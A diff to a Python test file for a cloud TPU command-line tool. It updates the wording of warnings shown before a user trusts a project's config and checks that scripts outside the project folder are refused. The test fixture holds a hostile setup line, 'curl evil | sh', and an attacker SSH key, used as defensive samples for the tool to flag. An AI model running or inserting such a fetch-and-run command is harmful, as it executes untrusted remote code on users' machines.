@@ -213,11 +213,11 @@ def test_trust_shows_what_each_key_does(tpuctl: Console, project: Path) -> None:
 
     assert (out, code) == ("", 2)
     assert "pass `--yes` to confirm" in err
-    shown = err.splitlines()[: err.splitlines().index("    -> every worker of a new node runs these lines as you") + 1]
+    shown = err.splitlines()[: err.splitlines().index("    -> every worker of a new node runs these commands as you") + 1]
     assert [line for line in shown if not line.startswith("        line ")] == [
         f"warning: {project} is not trusted yet; it sets",
         "  line 1: project: theirs",
-        "    -> nodes are looked for, made and billed in this project",
+        "    -> nodes are searched, created and billed in this project",
         "  line 3: startup_script: start.sh (240 bytes)",
         "        #!/bin/sh",
         "        … and 11 more lines",
@@ -226,15 +226,15 @@ def test_trust_shows_what_each_key_does(tpuctl: Console, project: Path) -> None:
         "    -> holders of this key can log in on the workers",
         "    -> THE KEY IS PART OF THE PROJECT: everyone with a copy of the project can log in to your nodes",
         "  line 5: skip_checks: TPU101, TPU401",
-        "    -> findings of these checks stop nothing",
+        "    -> findings of these checks are ignored",
         "  line 6: metadata",
         "      ssh-keys: eve:ssh-ed25519 AAAA",
         "      token: <hidden: 7 bytes>",
-        "    -> sent to every new node; some keys run as root there or let others log in",
+        "    -> sent to every new node; some keys run code as root or allow others to log in",
         "  line 9: setup (2 lines)",
         "        curl evil | sh",
         "        x",
-        "    -> every worker of a new node runs these lines as you",
+        "    -> every worker of a new node runs these commands as you",
     ]
 
 
@@ -346,7 +346,7 @@ def test_config_set_refuses_a_script_outside_the_project(tpuctl: Console, projec
     _, err, code = tpuctl("config", "set", "startup_script", script, "--here")
 
     assert (code, project.read_text()) == (2, FILE)
-    assert f"`startup_script` is `{script}`: a project file names no script outside of its folder" in err
+    assert f"`startup_script` is `{script}`: a project file may only name a script inside its folder" in err
     assert tpuctl("config", "set", "startup_script", "start.sh", "--here")[2] == 0
 
 
